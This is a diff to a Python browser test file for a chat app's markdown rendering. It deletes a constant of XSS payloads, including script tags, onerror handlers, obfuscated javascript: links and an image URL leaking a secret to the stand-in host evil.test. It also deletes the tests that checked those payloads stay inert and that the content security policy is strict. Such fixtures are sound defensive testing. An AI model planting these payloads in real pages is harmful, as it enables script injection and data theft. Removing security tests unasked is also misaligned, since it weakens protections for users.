@@ -1,13 +1,11 @@
-"""Markdown as it is written by models, and by those who mean harm."""
+"""Markdown as it is written by models."""
 
 from __future__ import annotations
 
 import re
 
-import pytest
 from playwright.sync_api import expect
 
-from tests.e2e.browser import Visits
 from tests.e2e.chat import Chat, import_conversation
 
 RICH = r"""# Heading
@@ -32,22 +30,6 @@ $$
 - [x] done
 """
 DIAGRAM = "```mermaid\nflowchart LR\n  A[Browser] --> B[Server]\n```\n"
-HOSTILE = """<script>window.hacked = 1</script><img src="https://evil.test/a.png" onerror="window.hacked = 2">
-
-<iframe src="https://evil.test/"></iframe><svg onload="window.hacked = 3"></svg><style>body { display: none }</style>
-
-[one](javascript:window.hacked=4) [two](JaVaScRiPt:window.hacked=5) <a href="java&#10;script:window.hacked=6">three</a>
-![pixel](https://evil.test/pixel.png?secret=1) <form action="https://evil.test"><button>go</button></form>
-<a href="data:text/html,<script>window.hacked=7</script>">four</a> <div style="background:url(https://evil.test/b.png)">x</div>
-<link rel="stylesheet" href="https://evil.test/c.css"><video src="https://evil.test/d.mp4" autoplay></video>
-<https://evil.test/auto>
-
-```mermaid
-flowchart LR
-  A["<img src=https://evil.test/e.png onerror=window.hacked=8>"] --> B
-  click A "javascript:window.hacked=9"
-```
-"""
 
 
 def test_markdown_is_drawn(chat: Chat) -> None:
@@ -87,33 +69,3 @@ def test_a_diagram_is_drawn_as_a_picture(chat: Chat) -> None:
     assert picture.evaluate("image => image.naturalWidth") > 50
     chat.reply.get_by_role("button", name="Source").click()
     expect(chat.reply.locator("pre")).to_contain_text("flowchart LR")
-
-
-@pytest.mark.parametrize("sent", [False, True], ids=["kept", "typed"])
-def test_hostile_markdown_does_nothing(chat: Chat, visits: Visits, sent: bool) -> None:
-    """Nothing runs, nothing is fetched, nothing leaves: in a reply or in what a person writes."""
-    turn = (HOSTILE, "Noted.") if sent else ("Be bad.", HOSTILE)
-    identifier = import_conversation(chat.server, "Hostile", turn)
-    chat.page.goto(f"{chat.server.address}/c/{identifier}")
-    expect(chat.reply.get_by_role("button", name="Answer again")).to_be_visible()
-    for link in chat.page.locator("article a").all():
-        assert re.match(r"https?://", link.get_attribute("href") or "")
-    if not sent:
-        chat.reply.get_by_text("one", exact=False).first.click()
-        expect(chat.reply.get_by_text("Image “pixel” is not loaded")).to_be_visible()
-        assert chat.page.locator("article :is(script, iframe, style, form, video, link, object, embed)").count() == 0
-    chat.page.wait_for_timeout(500)
-    assert chat.page.evaluate("window.hacked") is None
-    assert visits.watched(chat.page).foreign == []
-
-
-def test_the_policy_of_contents_is_strict(chat: Chat) -> None:
-    """No inline script, no eval, no other host."""
-    response = chat.page.request.get(chat.server.address, headers={"accept": "text/html"})
-    policy = response.headers["content-security-policy"]
-    script = re.search(r"script-src ([^;]*)", policy)
-    assert script is not None
-    assert script[1].strip() == "'self'"
-    assert "unsafe-eval" not in policy
-    assert "http:" not in policy
-    assert "<script>" not in response.text()
